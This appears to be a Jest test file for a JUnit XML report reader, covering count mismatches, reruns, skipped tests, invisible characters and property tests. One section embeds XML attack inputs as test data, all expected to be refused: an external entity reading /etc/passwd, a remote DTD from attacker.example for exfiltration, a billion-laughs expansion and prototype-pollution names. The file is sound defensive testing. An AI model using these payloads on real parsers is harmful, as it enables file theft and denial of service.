// The JUnit reader on shapes no available tool writes (each case cites the public report or the
// specification it reproduces), and two fast-check properties over bytes. Files written by the
// real tools are in junit-real-tools.test.ts; the shared corpus cases in junit-ingest.test.ts.
import { describe, expect, test } from '@jest/globals'
import { XMLParser, XMLValidator } from 'fast-xml-parser'
import fc from 'fast-check'
import { readFileSync } from 'node:fs'
import { judgeTogether, readJunit } from '../src/parsers/junit.js'
import type { FileVerdict } from '../src/parsers/verdict.js'
import { decodeText } from '../src/parsers/decode-text.js'

const STATUSES = ['passed', 'failed', 'invalid']

function read(xml: string, file = 'junit.xml'): FileVerdict {
  return readJunit(xml, { file })
}

/** Bytes → verdict, as the gate reads a file. */
function readBytes(bytes: Uint8Array, file = 'junit.xml'): FileVerdict {
  const decoded = decodeText(bytes, 'xml')
  return decoded.ok
    ? readJunit(decoded.text, { file })
    : { status: 'invalid', message: `${file}: ${decoded.message}`, findings: [], summary: {} }
}

describe('counts at every level', () => {
  // Apache Ant JUnit schema (windyroad/JUnit-Schema JUnit.xsd): testsuite@failures and @errors
  // are "the total number of tests in the suite that failed/errored". A total that no element
  // accounts for is a failure the file does not show (compare gotestyourself/gotestsum#475).
  test('a <testsuite failures="2"> with one <failure> fails and names the suite, its line and the counts', () => {
    const v = read(`<testsuites>
  <testsuite name="cart" tests="3" failures="2" errors="0">
    <testcase classname="cart" name="adds"><failure message="1 != 2"/></testcase>
    <testcase classname="cart" name="removes"/>
    <testcase classname="cart" name="totals"/>
  </testsuite>
</testsuites>`)
    expect(v.status).toBe('failed')
    expect(v.message).toBe(
      'junit.xml: 1 failed and 0 errored of 3 tests; and <testsuite> "cart" on line 2 says tests="3" failures="2" errors="0": 1 more than the elements show'
    )
    expect(v.findings.map((f) => f.id)).toEqual(['cart › cart.adds', 'cart'])
  })

  // Same schema, nested suites (Jenkins junit-10.xsd allows testsuite in testsuite): an error
  // only an inner suite counts is reported once, at that suite, not again by every outer total.
  test('an error counted by an inner suite and by the root is reported once, where it is counted', () => {
    const v = read(`<testsuites tests="2" failures="0" errors="1">
  <testsuite name="api" tests="2" errors="1">
    <testsuite name="orders" tests="1" errors="1"><testcase classname="o" name="lists"/></testsuite>
    <testsuite name="refunds" tests="1"><testcase classname="r" name="refunds"/></testsuite>
  </testsuite>
</testsuites>`)
    expect(v.status).toBe('failed')
    expect(v.findings).toHaveLength(1)
    expect(v.findings[0]?.id).toBe('api › orders')
    expect(v.summary).toMatchObject({ tests: 2, errors: 0, unaccounted: 1 })
  })

  // maven-surefire surefire-test-report-3.0.xsd: <flakyFailure> records a failed run of a test
  // that passed on a rerun. A test case that also has a <failure> did not pass: fail closed.
  test('a test case with both <failure> and <flakyFailure> failed', () => {
    const v = read(`<testsuite name="T" tests="2" failures="2">
  <testcase classname="T" name="a"><failure message="boom"/><flakyFailure message="boom"/></testcase>
</testsuite>`)
    expect(v.status).toBe('failed')
    expect(v.summary).toMatchObject({ failures: 1 })
  })

  // surefire-test-report-3.0.xsd: <rerunFailure>/<rerunError> accompany the <failure>/<error> of
  // a test that failed every rerun. One alone says the test failed reruns and shows no result.
  test('a <rerunError> without <error> or <failure> is a failure, not a pass', () => {
    const v = read(`<testsuite name="T" tests="2" errors="1">
  <testcase classname="T" name="a"><rerunError message="timeout"/></testcase>
</testsuite>`)
    expect(v.status).toBe('failed')
    expect(v.findings[0]?.message).toBe('failed on 1 reruns, with no final result')
  })

  // Ant JUnit.xsd has no <failure> directly in <testsuite>; a file that puts one there still
  // reports a failure (fail closed), counted against its suite.
  test('a <failure> outside any test case fails its suite', () => {
    const v = read(`<testsuite name="setup" tests="1" failures="1">
  <failure message="beforeAll hook failed"/>
  <testcase classname="s" name="t"/>
</testsuite>`)
    expect(v.status).toBe('failed')
    expect(v.findings).toEqual([
      {
        id: 'setup',
        status: 'failed',
        message: 'failed outside any test case: beforeAll hook failed'
      }
    ])
  })

  // Ant JUnit.xsd types the counts as xs:int: anything else is not a count to trust.
  test('a count that is not a whole number makes the file invalid, naming the attribute and line', () => {
    const v = read(
      '<testsuites>\n<testsuite name="s" tests="3" failures="one"><testcase name="t"/></testsuite>\n</testsuites>'
    )
    expect(v).toMatchObject({
      status: 'invalid',
      message:
        'junit.xml: failures="one" on <testsuite> at line 2 is not a count (a whole number); fix the tool or step that wrote the file'
    })
  })

  // mocha-junit-reporter's default (includePending: false) leaves pending tests out of the file
  // but counts them in the root's skipped; a suite of totals only whose tests the root says
  // were all skipped ran nothing.
  test('suite totals only: what the root totals say was skipped did not run', () => {
    const v = read(
      '<testsuites tests="2" failures="0" skipped="2"><testsuite name="cart" tests="2" failures="0"></testsuite></testsuites>'
    )
    expect(v).toMatchObject({ status: 'failed', tests: { ran: 0 } })
    expect(v.message).toBe(
      'junit.xml: no test ran (2 tests, 2 skipped); a run without tests proves nothing'
    )
  })

  test('suite totals only: a suite that holds anything but properties and output is not judged by its totals', () => {
    const v = read('<testsuite name="s" tests="1" failures="0"><testcse name="typo"/></testsuite>')
    expect(v.status).toBe('failed')
    expect(v.tests?.ran).toBe(0)
  })
})

describe('a test case without a name (an interrupted pytest run)', () => {
  const file = (cases: string): string =>
    `<testsuites><testsuite name="pytest" tests="2">${cases}</testsuite></testsuites>`

  test('fails, naming its line and counting only the named tests that passed', () => {
    const v = readJunit(
      file('<testcase classname="t" name="a"/>\n<testcase><skipped/></testcase>'),
      {
        file: 'r.xml'
      }
    )
    expect(v.status).toBe('failed')
    expect(v.message).toContain('the <testcase> at line 2 has no name')
    expect(v.message).toContain('1 named tests passed')
  })

  test('an empty name is a name (jest-junit and mocha write it for test(""))', () => {
    expect(readJunit(file('<testcase classname="t" name=""/>'), { file: 'r.xml' }).status).toBe(
      'passed'
    )
  })
})

describe('reruns', () => {
  // Two test cases of one name are two tests unless the file says they are runs of one:
  // jest `test.each([...])('adds', …)` without %s, and Surefire before 3.0.0-M4 with JUnit 5
  // parameterised tests, write identical names. Only gotestsum (a go.version property) writes
  // a rerun as a second <testcase> (gotestyourself/gotestsum#281).
  const twice = (props: string): string =>
    `<testsuite name="s" tests="2" failures="1">${props}<testcase classname="A" name="t"><failure message="boom"/></testcase><testcase classname="A" name="t"/></testsuite>`

  test('a failed case and a passing one of the same name: the failure stands', () => {
    const v = read(twice(''))
    expect(v.status).toBe('failed')
    expect(v.message).toMatch(/1 failed and 0 errored of 2 tests/)
  })

  test('in a gotestsum suite, the passing rerun makes the failure a flaky run', () => {
    const v = read(
      twice('<properties><property name="go.version" value="go1.19.8 linux/amd64"/></properties>')
    )
    expect(v.status).toBe('passed')
    expect(v.message).toMatch(/1 flaky \(passed on rerun\): A\.t/)
  })
})

describe('tests that did not run', () => {
  // google/googletest#3836: disabled tests are written status="notrun" result="suppressed",
  // GTEST_SKIP() ones status="run" result="skipped", both without a <skipped> element.
  test('Google Test notrun/suppressed and result="skipped" test cases did not run', () => {
    const v = read(`<testsuites tests="3" failures="0" disabled="1" errors="0" name="AllTests">
  <testsuite name="Suite1" tests="2" failures="0" disabled="1" skipped="0" errors="0">
    <testcase name="DISABLED_Test2" status="notrun" result="suppressed" classname="Suite1" />
    <testcase name="Test3" status="run" result="skipped" classname="Suite1" />
  </testsuite>
</testsuites>`)
    expect(v.message).toBe(
      'junit.xml: no test ran (2 tests, 2 skipped); a run without tests proves nothing'
    )
  })

  test('"no test ran" is judged over the whole source: a file of skipped tests passes beside a file whose tests ran', () => {
    const skippedOnly = read(
      '<testsuite name="IT" tests="1" skipped="1"><testcase classname="IT" name="db"><skipped/></testcase></testsuite>',
      'TEST-IT.xml'
    )
    const ran = read(
      '<testsuite name="U" tests="1"><testcase classname="U" name="adds"/></testsuite>',
      'TEST-U.xml'
    )
    const empty = read('<testsuite name="E" tests="0"/>', 'TEST-E.xml')
    expect([skippedOnly.status, ran.status, empty.status]).toEqual(['failed', 'passed', 'failed'])
    expect(judgeTogether([skippedOnly, ran, empty]).map((v) => [v.status, v.message])).toEqual([
      [
        'passed',
        'TEST-IT.xml: no test ran in this file (1 tests, 1 skipped); tests ran in other files of this source'
      ],
      ['passed', 'TEST-U.xml: 1 tests passed'],
      [
        'passed',
        'TEST-E.xml: no test ran in this file (0 tests, 0 skipped); tests ran in other files of this source'
      ]
    ])
    // Nothing ran anywhere: every file still fails.
    expect(judgeTogether([skippedOnly, empty]).map((v) => v.status)).toEqual(['failed', 'failed'])
  })

  test('judging together never turns a failure into a pass', () => {
    const failing = read(
      '<testsuite name="F" tests="1" failures="1"><testcase classname="F" name="x"><failure/></testcase></testsuite>'
    )
    const ran = read(
      '<testsuite name="U" tests="1"><testcase classname="U" name="adds"/></testsuite>'
    )
    expect(judgeTogether([failing, ran]).map((v) => v.status)).toEqual(['failed', 'passed'])
  })
})

describe('DOCTYPE, entities and other XML the parser must survive (never throws, never fetches)', () => {
  // codeclou/java-junit-xml-merger#7 (the shared corpus' case 05): an external entity.
  // XML 1.0 §4.4.3: a non-validating processor need not include external parsed entities;
  // gonogo never does, and refuses the reference that would need one.
  test.each([
    [
      'an external entity (SYSTEM)',
      '<!DOCTYPE testsuite [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<testsuite name="s"><testcase name="t"><failure message="&x;"/></testcase></testsuite>'
    ],
    [
      'a parameter entity reading a remote DTD (§4.4.8)',
      '<!DOCTYPE testsuite [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n<testsuite name="s"><testcase name="t">&exfil;</testcase></testsuite>'
    ],
    [
      'nested internal entities ("billion laughs", CWE-776)',
      `<!DOCTYPE testsuite [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>\n<testsuite name="&c;"><testcase name="t"/></testsuite>`
    ]
  ])('%s: invalid, naming the entity and the DOCTYPE line', (_what, xml) => {
    const v = read(xml)
    expect(v.status).toBe('invalid')
    expect(v.message).toMatch(
      /^junit\.xml: cannot be read safely at line 2, column \d+: entity reference &\w+; needs the DOCTYPE on line 1, which gonogo never reads/
    )
  })

  // XML 1.0 §2.8: a DOCTYPE declares; a document that references nothing from it reads the same
  // without it. It is skipped, and a <failure> is still read.
  test('a DOCTYPE nothing refers to is skipped: a failing report still fails, a green one passes', () => {
    const doctype =
      '<?xml version="1.0"?>\n<!DOCTYPE testsuite SYSTEM "junit.dtd" [ <!-- ] --> <!ENTITY unused "]>"> ]>\n'
    expect(
      read(
        `${doctype}<testsuite name="s"><testcase name="t"><failure message="boom"/></testcase></testsuite>`
      ).status
    ).toBe('failed')
    expect(read(`${doctype}<testsuite name="s"><testcase name="t"/></testsuite>`).status).toBe(
      'passed'
    )
  })

  // XML 1.0 §2.8 (doctypedecl appears at most once, before the root), §2.6 (a processing
  // instruction ends with ?>), §2.3 (names): each of these makes fast-xml-parser 5 throw.
  test.each([
    [
      'two DOCTYPEs',
      '<!DOCTYPE a>\n<!DOCTYPE b>\n<testsuite/>',
      /line 2, column 1: a second DOCTYPE \(the first is on line 1\)/
    ],
    [
      'an unclosed processing instruction',
      '<testsuite><?pi never closed</testsuite>',
      // saxes reads to the end inside the processing instruction, then reports the open element.
      /line 1, column 41: <testsuite> opened on line 1 is never closed/
    ],
    [
      'a DOCTYPE after the root',
      '<testsuite/><!DOCTYPE x>',
      /DOCTYPE inside or after the root element/
    ]
  ])('%s: invalid with line and column', (_what, xml, pattern) => {
    const v = read(xml)
    expect(v.status).toBe('invalid')
    expect(v.message).toMatch(pattern)
  })

  // Element names are names (XML 1.0 §2.3), not object keys: fast-xml-parser 5 refuses
  // "__proto__" and "constructor" as a prototype-pollution guard; here they are ignored elements.
  test('elements named __proto__, constructor and prototype are just unknown elements', () => {
    const v = read(
      '<testsuite name="s"><testcase name="t"><__proto__ polluted="yes"/><constructor/><prototype>x</prototype></testcase></testsuite>'
    )
    expect(v).toMatchObject({ status: 'passed', message: 'junit.xml: 1 tests passed' })
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })

  test('an undeclared entity that names an Object.prototype key is refused, not resolved', () => {
    const v = read('<testsuite name="s"><testcase name="&constructor;"/></testsuite>')
    expect(v.status).toBe('invalid')
    expect(v.message).toContain('undeclared entity &constructor;')
  })

  // fast-xml-parser 5 throws past maxNestedTags (100); a recursive walk overflows the stack
  // around 10^4. saxes keeps open elements in an array, not frames: depth costs memory only.
  test('elements nested 200,000 deep, inside and around a test case, are refused at the first one past the limit', () => {
    const depth = 200_000
    const inner = `${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}`
    const suites = `${'<testsuite name="s">'.repeat(depth)}<testcase name="deep"><failure/></testcase>${'</testsuite>'.repeat(depth)}`
    const a = read(`<testsuite name="s"><testcase name="t">${inner}</testcase></testsuite>`)
    expect(a.message).toBe(
      `junit.xml: cannot be read safely at line 1, column ${40 + 3 * 254}: elements nested more than 256 deep (<x>); a test report nests a few levels: check the tool that wrote it`
    )
    const v = read(`<testsuites>${suites}</testsuites>`)
    expect(v.status).toBe('invalid')
    expect(v.message).toMatch(/elements nested more than 256 deep \(<testsuite>\)/)
  })

  test('elements nested to the limit are read, and finding the enclosing test case and suite costs the same at any depth', () => {
    const depth = 126
    const xml = `<testsuite name="s"><testcase name="t">${'<a>'.repeat(depth)}${'<failure/>'.repeat(20_000)}${'</a>'.repeat(depth)}</testcase>${'<b>'.repeat(depth)}${'<testcase name="u"/>'.repeat(20_000)}${'</b>'.repeat(depth)}</testsuite>`
    const started = performance.now()
    const v = read(xml)
    expect(performance.now() - started).toBeLessThan(10_000)
    expect(v.message).toBe('junit.xml: 1 failed and 0 errored of 20001 tests')
    const deepest = `<testsuite name="s">${'<a>'.repeat(254)}<b/>${'</a>'.repeat(254)}<testcase name="u"/></testsuite>`
    expect(read(deepest).status).toBe('passed')
  })

  test('an unclosed element names itself and the line it opened on', () => {
    const v = read('<testsuites>\n  <testsuite name="s">\n    <testcase name="t"/>\n')
    expect(v.message).toBe(
      'junit.xml: not well-formed XML at line 4, column 1: <testsuite> opened on line 2 is never closed (is the file cut short?)'
    )
  })
})

describe('messages never hide an invisible character', () => {
  // XML 1.0 §2.1: one root element. Two reports concatenated, the second with its UTF-8
  // byte-order mark, put a U+FEFF after the first root.
  test('a byte-order mark in the middle of the text is named', () => {
    const bytes = Buffer.concat([
      Buffer.from('<testsuite name="a"><testcase name="t"/></testsuite>\n'),
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from('<testsuite name="b"><testcase name="u"/></testsuite>\n')
    ])
    expect(readBytes(bytes).message).toBe(
      'junit.xml: not well-formed XML at line 2, column 1: U+FEFF byte-order mark after the end of the root element; only markup may stand there'
    )
  })

  test('NUL and other control characters are named (binary data)', () => {
    expect(read('<testsuite>\u0000</testsuite>').message).toBe(
      'junit.xml: binary data, not JUnit XML (U+0000 NUL at line 1, column 12)'
    )
  })

  test('zero-width and bidi characters in test names and failure messages are named', () => {
    const v = read(
      '<testsuite name="s"><testcase classname="c" name="pay\u200b"><failure message="expected &quot;\u202eabc&quot;"/></testcase></testsuite>'
    )
    expect(v.findings[0]).toMatchObject({
      id: 's › c.pay[U+200B zero width space]',
      message: 'failed: expected "[U+202E right-to-left override]abc"'
    })
  })
})

// ---------------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------------

const TOKENS = [
  '<testsuites>',
  '</testsuites>',
  '<testsuite name="s" tests="2" failures="1">',
  '</testsuite>',
  '<testcase classname="c" name="t">',
  '</testcase>',
  '<testcase name="u"/>',
  '<failure message="m">',
  '</failure>',
  '<error/>',
  '<skipped/>',
  '<flakyFailure/>',
  '<rerunError/>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "f">]>',
  '&e;',
  '&amp;',
  '&#0;',
  '<![CDATA[',
  ']]>',
  '<!--',
  '-->',
  '<?pi ',
  '?>',
  '<?xml version="1.0"?>',
  '"',
  "'",
  '<',
  '>',
  '/',
  '=',
  ' ',
  '\n',
  '\u0000',
  '\ufeff',
  '\ud800',
  'x',
  '<__proto__>',
  '</__proto__>'
]

/** Passing reports as the tools write them: each must stay passed only while it still is. */
const PASSING_SEEDS: [string, Uint8Array][] = [
  [
    'jest-junit',
    Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>
<testsuites name="jest tests" tests="3" failures="0" errors="0" time="0.8">
  <testsuite name="cart" errors="0" failures="0" skipped="1" timestamp="2026-11-20T09:12:01" time="0.5" tests="3">
    <testcase classname="cart adds" name="cart adds" time="0.004">
    </testcase>
    <testcase classname="cart removes" name="cart removes" time="0.002">
    </testcase>
    <testcase classname="cart later" name="cart later" time="0">
      <skipped/>
    </testcase>
  </testsuite>
</testsuites>
`)
  ],
  [
    'pytest',
    Buffer.from(
      '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" tests="2" time="0.02"><testcase classname="test_cart" name="test_add" time="0.000" /><testcase classname="test_cart" name="test_remove" time="0.001" /></testsuite></testsuites>'
    )
  ],
  [
    'gotestsum',
    Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>
<testsuites tests="2" failures="0" errors="0" time="0.2">
	<testsuite tests="2" failures="0" time="0.01" name="example.com/shop/basket" timestamp="2026-11-20T10:00:00Z">
		<properties>
			<property name="go.version" value="go1.19.8 linux/amd64"></property>
		</properties>
		<testcase classname="example.com/shop/basket" name="TestAdd" time="0.000000"></testcase>
		<testcase classname="example.com/shop/basket" name="TestRemove" time="0.000000"></testcase>
	</testsuite>
</testsuites>`)
  ],
  [
    'surefire-flaky',
    readFileSync(
      '__tests__/fixtures/ingest/01-surefire-flaky-rerun/results/flaky/TEST-org.example.cart.PriceRulesTest.xml'
    )
  ],
  ['utf16le-bom', readFileSync('__tests__/fixtures/ingest/04-junit-utf16/results/tests.xml')]
]

const FAILUREISH = new Set([
  'failure',
  'error',
  'flakyFailure',
  'flakyError',
  'rerunFailure',
  'rerunError'
])

/**
 * An independent structural re-read (fast-xml-parser, not saxes, which gonogo reads with): the
 * bytes decode, the XML is well-formed, the root is a JUnit root, there is at least one
 * <testcase>, no <failure> or <error> anywhere, and every suite's failures + errors are covered by
 * the failure, error, flaky and rerun elements inside it.
 */
function structurallyPassing(bytes: Uint8Array): boolean {
  let text: string
  try {
    text =
      bytes[0] === 0xff && bytes[1] === 0xfe
        ? new TextDecoder('utf-16le', { fatal: true }).decode(bytes.subarray(2))
        : new TextDecoder('utf-8', { fatal: true }).decode(bytes)
  } catch {
    return false
  }
  if (XMLValidator.validate(text) !== true) return false
  let doc: Record<string, unknown>
  try {
    doc = new XMLParser({
      ignoreAttributes: false,
      attributeNamePrefix: '@_',
      isArray: () => true,
      processEntities: false
    }).parse(text) as Record<string, unknown>
  } catch {
    return false
  }
  let cases = 0
  let problems = 0
  let countsAgree = true
  const walk = (name: string, node: unknown): number => {
    if (typeof node !== 'object' || node === null) return 0
    const n = node as Record<string, unknown>
    let within = 0
    for (const [key, children] of Object.entries(n)) {
      if (key.startsWith('@_') || key === '#text' || !Array.isArray(children)) continue
      for (const child of children) {
        if (key === 'testcase') cases++
        if (key === 'failure' || key === 'error') problems++
        within += (FAILUREISH.has(key) ? 1 : 0) + walk(key, child)
      }
    }
    if (name === 'testsuite' || name === 'testsuites') {
      const declared = Number(n['@_failures'] ?? 0) + Number(n['@_errors'] ?? 0)
      if (!(declared <= within)) countsAgree = false
    }
    return within
  }
  const roots = Object.keys(doc).filter((k) => !k.startsWith('?'))
  if (roots.length !== 1 || !['testsuites', 'testsuite'].includes(roots[0] ?? '')) return false
  for (const root of doc[roots[0] as string] as unknown[]) walk(roots[0] as string, root)
  return cases >= 1 && problems === 0 && countsAgree
}

describe('properties', () => {
  test('any bytes: decode and read return a verdict naming the file, and never throw', () => {
    const xmlish = fc
      .array(fc.constantFrom(...TOKENS), { maxLength: 40 })
      .map((parts) => new Uint8Array(Buffer.from(parts.join(''), 'utf8')))
    fc.assert(
      fc.property(fc.oneof(fc.uint8Array({ maxLength: 400 }), xmlish), (bytes) => {
        const v = readBytes(bytes, 'any.xml')
        expect(STATUSES).toContain(v.status)
        expect(v.message.startsWith('any.xml: ')).toBe(true)
        expect(v.message).not.toMatch(
          // eslint-disable-next-line no-control-regex -- no message may carry these unnamed
          /[\u0000-\u0008\u000b-\u001f\u200b-\u200f\u202a-\u202e\ufeff]/
        )
      }),
      { numRuns: 1500 }
    )
  })

  test('each passing seed reads as passed, and only with its counts', () => {
    for (const [name, bytes] of PASSING_SEEDS) {
      expect([name, readBytes(bytes).status]).toEqual([name, 'passed'])
      expect([name, structurallyPassing(bytes)]).toEqual([name, true])
    }
  })

  test('a passing report with one byte removed is passed only if a structural re-read still finds a passing report', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: PASSING_SEEDS.length - 1 }), fc.nat(), (seed, at) => {
        const bytes = (PASSING_SEEDS[seed] as [string, Uint8Array])[1]
        const i = at % bytes.length
        const mutated = new Uint8Array(bytes.length - 1)
        mutated.set(bytes.subarray(0, i), 0)
        mutated.set(bytes.subarray(i + 1), i)
        const v = readBytes(mutated)
        if (v.status === 'passed') expect(structurallyPassing(mutated)).toBe(true)
      }),
      { numRuns: 4000 }
    )
  })
})
